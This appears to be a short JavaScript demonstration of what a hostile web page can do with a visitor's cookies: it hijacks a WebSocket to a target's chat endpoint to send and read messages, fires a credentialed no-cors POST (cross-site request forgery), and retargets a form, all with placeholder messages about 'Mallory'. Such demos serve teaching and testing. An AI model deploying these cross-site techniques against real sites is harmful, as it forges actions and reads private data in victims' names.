// What a page can do on behalf of whoever looks at it. It needs no mistake of the browser's.

const find = id => document.getElementById(id);
const target = await (await fetch("/target")).text();

// One: a socket. The browser adds the cookie, and the page reads and writes.
const socket = new WebSocket(`${target.replace("http", "ws")}/chat`);
socket.onopen = () => {
    find("socket").textContent = "open";
    socket.send("I owe Mallory a hundred pounds.");
};
socket.onmessage = ({ data }) => {
    const item = document.createElement("li");
    item.textContent = data;
    find("heard").append(item);
};
socket.onclose = ({ code }) => find("socket").textContent = `closed with ${code}`;

// Two: a request of the kind for which no permission is asked. Its answer is not shown to
// this page, but it is sent.
fetch(`${target}/say`, {
    method: "POST", mode: "no-cors", credentials: "include",
    body: "Mallory may have my bicycle.",
}).then(() => "sent", () => "not sent").then(how => find("request").textContent = how);

// Three: a form, which somebody else sends off.
find("form").action = `${target}/say`;
